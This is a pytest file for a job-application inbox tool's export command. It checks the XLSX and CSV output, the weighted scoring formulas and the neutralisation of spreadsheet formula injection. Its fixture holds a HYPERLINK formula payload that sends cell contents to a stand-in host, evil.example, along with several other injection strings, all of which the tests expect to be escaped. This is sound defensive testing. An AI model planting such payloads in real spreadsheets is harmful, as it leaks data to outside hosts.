"""`export`: the files opened back (openpyxl, csv), the scoring formulas, and formula injection."""

from __future__ import annotations

import csv
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from inbox_bot.core.models import Verdict
from inbox_bot.operator.export import neutralised
from tests.opkit import json_lines, open_store, record, run, write_config

OXFAM = "oxfam-migration-2022"
OXFAM_ADDRESS = "procurement.maroc@oxfam.org"
HAKAMA = "hakama-communication-2026"
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"CV")'


@pytest.fixture
def oxfam(tmp_path: Path) -> Path:
    """Two on-time applicants (one with a name built to run as a formula) and one late, held apart."""
    config = write_config(tmp_path)
    store = open_store(config)
    common = {"call": OXFAM, "to": OXFAM_ADDRESS, "subject": "Consultance migration"}
    record(
        store,
        "karim@example.ma",
        verdict=Verdict.COMPLETE,
        received=datetime(2022, 1, 10, 9, tzinfo=UTC),
        files={"CV.pdf": "cv", "offre.pdf": "financial_offer"},
        **common,
    )
    record(
        store,
        "evil@example.org",
        name=EVIL_NAME,
        missing=["tax_certificate"],
        received=datetime(2022, 1, 12, 9, tzinfo=UTC),
        files={"@SUM(1+1).pdf": "cv"},
        **common,
    )
    record(
        store,
        "late@example.ma",
        name="Nadia Late",
        verdict=Verdict.LATE,
        missing=["cv"],
        received=datetime(2022, 1, 22, 9, tzinfo=UTC),
        **common,
    )
    store.close()
    return config


def _rows(sheet: Worksheet) -> list[list[object]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_xlsx_has_the_applicants_the_scoring_sheet_and_the_late_ones(oxfam: Path, tmp_path: Path) -> None:
    out = tmp_path / "oxfam.xlsx"
    result = run(oxfam, "export", "--call", OXFAM, "--out", str(out))
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    assert book.sheetnames == ["Candidatures", "Notation", "Hors délai"]
    header, karim, evil = _rows(book["Candidatures"])
    assert header[:5] == ["Réf.", "Nom", "Adresse", "Reçu le (heure du Maroc)", "Verdict"]
    assert header[5:11] == [
        "CV",
        "note méthodologique / proposition technique",
        "offre financière",
        "attestation fiscale",
        "code de conduite signé",
        "termes et conditions signés",
    ]
    # Received 09:00 UTC: Morocco was at UTC+1 in January 2022.
    assert karim[:5] == ["A1", "Karim Alaoui", "karim@example.ma", "2022-01-10 10:00", "complete"]
    assert evil[5:11] == ["présent", "présent", "présent", "manquant", "présent", "présent"]
    stored = Path(re.sub(r"^.*: ", "", str(karim[11]).splitlines()[0]))
    assert stored.is_file() and stored.read_bytes().startswith(b"%PDF")
    late_rows = _rows(book["Hors délai"])
    assert [row[:2] for row in late_rows] == [["Réf.", "Nom"], ["A3", "Nadia Late"]]


def test_the_weighted_total_is_a_formula_over_the_rules_weights(oxfam: Path, tmp_path: Path) -> None:
    out = tmp_path / "oxfam.xlsx"
    run(oxfam, "export", "--call", OXFAM, "--out", str(out))
    sheet = load_workbook(out)["Notation"]
    rows = _rows(sheet)
    assert rows[0] == [
        "Réf.",
        "Nom",
        "Verdict",
        "Offre technique",
        "Offre financière",
        "Expérience justifiée",
        "Total pondéré (sur 100)",
    ]
    assert rows[1] == ["Pondération", None, None, 30, 30, 40, "=SUM(D2:F2)"]
    assert [r[0] for r in rows[2:]] == ["A1", "A2"]  # the late dossier is not scored with the others
    assert rows[2][6] == "=SUMPRODUCT($D$2:$F$2,D3:F3)/SUM($D$2:$F$2)"
    assert rows[3][6] == "=SUMPRODUCT($D$2:$F$2,D4:F4)/SUM($D$2:$F$2)"
    assert sheet["D1"].comment is not None and "méthodologie" in sheet["D1"].comment.text
    [validation] = sheet.data_validations.dataValidation
    assert str(validation.sqref) == "D3:F4" and (validation.formula1, validation.formula2) == ("0", "100")
    # The formula, computed the way a spreadsheet does: marks 80, 50, 90 give 0.3*80 + 0.3*50 + 0.4*90.
    assert _sumproduct(rows[2][6], {"D2": 30, "E2": 30, "F2": 40, "D3": 80, "E3": 50, "F3": 90}) == pytest.approx(75)


def _sumproduct(formula: object, cells: dict[str, float]) -> float:
    found = re.fullmatch(r"=SUMPRODUCT\(\$D\$2:\$F\$2,D(\d+):F\1\)/SUM\(\$D\$2:\$F\$2\)", str(formula))
    assert found is not None, formula
    row = found.group(1)
    weights = [cells[f"{c}2"] for c in "DEF"]
    marks = [cells[f"{c}{row}"] for c in "DEF"]
    return sum(w * m for w, m in zip(weights, marks, strict=True)) / sum(weights)


def test_hakama_weights(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    store = open_store(config)
    record(store, "karim@example.ma", call=HAKAMA, to="activites@ajj.org.ma", subject="Offre HAKAMA")
    store.close()
    out = tmp_path / "hakama.xlsx"
    assert run(config, "export", "--call", HAKAMA, "--out", str(out)).exit_code == 0
    rows = _rows(load_workbook(out)["Notation"])
    assert rows[1][3:7] == [40, 15, 30, 15]
    assert rows[2][7] == "=SUMPRODUCT($D$2:$G$2,D3:G3)/SUM($D$2:$G$2)"


def test_a_call_without_weighted_criteria_gets_one_overall_mark(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    store = open_store(config)
    record(store, "karim@example.ma")
    store.close()
    out = tmp_path / "omp.xlsx"
    assert run(config, "export", "--call", "omp-charge-projet-2026", "--out", str(out)).exit_code == 0
    rows = _rows(load_workbook(out)["Notation"])
    assert rows[0][3:] == ["Évaluation globale", "Total pondéré (sur 100)"]
    assert rows[1][3:] == [100, "=SUM(D2:D2)"]
    assert rows[2][4] == "=SUMPRODUCT($D$2:$D$2,D3:D3)/SUM($D$2:$D$2)"


def test_xlsx_text_never_runs_as_a_formula(oxfam: Path, tmp_path: Path) -> None:
    out = tmp_path / "oxfam.xlsx"
    run(oxfam, "export", "--call", OXFAM, "--out", str(out))
    book = load_workbook(out)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                # Our own formulas are the totals and the sum of the weights, nothing else.
                if cell.data_type == "f":
                    assert str(cell.value).startswith(("=SUMPRODUCT(", "=SUM(D2:")), cell.value
    name = book["Candidatures"]["B3"]
    assert (name.value, name.data_type) == ("'" + EVIL_NAME, "s")
    assert book["Notation"]["B4"].value == "'" + EVIL_NAME
    assert str(book["Candidatures"]["L3"].value).startswith("'@SUM(1+1).pdf (cv): /")


def test_csv_one_row_per_applicant_with_text_neutralised(oxfam: Path, tmp_path: Path) -> None:
    out = tmp_path / "oxfam.csv"
    result = run(oxfam, "export", "--call", OXFAM, "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "2 applicant(s) on time, 1 late" in result.stdout
    with out.open(encoding="utf-8-sig", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header[0] == "Réf." and header[-1] == "Fichiers"
    assert [(r[0], r[4]) for r in rows] == [("A1", "complete"), ("A2", "incomplete"), ("A3", "late")]
    assert rows[1][1] == "'" + EVIL_NAME
    assert rows[2][5] == "manquant"


def test_csv_is_chosen_by_the_file_name_and_the_format_wins(oxfam: Path, tmp_path: Path) -> None:
    run(oxfam, "export", "--call", OXFAM, "--out", str(tmp_path / "a.csv"))
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbfR")  # a BOM, then the header
    run(oxfam, "export", "--call", OXFAM, "--format", "xlsx", "--out", str(tmp_path / "b.csv"))
    with (tmp_path / "b.csv").open("rb") as handle:  # openpyxl goes by the name unless given a file
        assert load_workbook(handle).sheetnames[0] == "Candidatures"


def test_export_to_a_folder_that_does_not_exist_fails_in_one_line(oxfam: Path, tmp_path: Path) -> None:
    result = run(oxfam, "export", "--call", OXFAM, "--out", str(tmp_path / "no" / "such" / "x.xlsx"))
    assert result.exit_code == 2 and result.stderr.startswith("inbox-bot: cannot write")


def test_applications_and_export_agree(oxfam: Path, tmp_path: Path) -> None:
    ids = sorted(r["id"] for r in json_lines(run(oxfam, "applications", "--call", OXFAM, "--json")))
    out = tmp_path / "oxfam.csv"
    run(oxfam, "export", "--call", OXFAM, "--out", str(out))
    with out.open(encoding="utf-8-sig", newline="") as handle:
        assert sorted(r[0] for r in list(csv.reader(handle))[1:]) == ids


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+212 6 00 00 00 00", "'+212 6 00 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Karim = candidat", "Karim = candidat"),
        ("", ""),
        (12, 12),
    ],
)
def test_neutralised(value: object, expected: object) -> None:
    assert neutralised(value) == expected
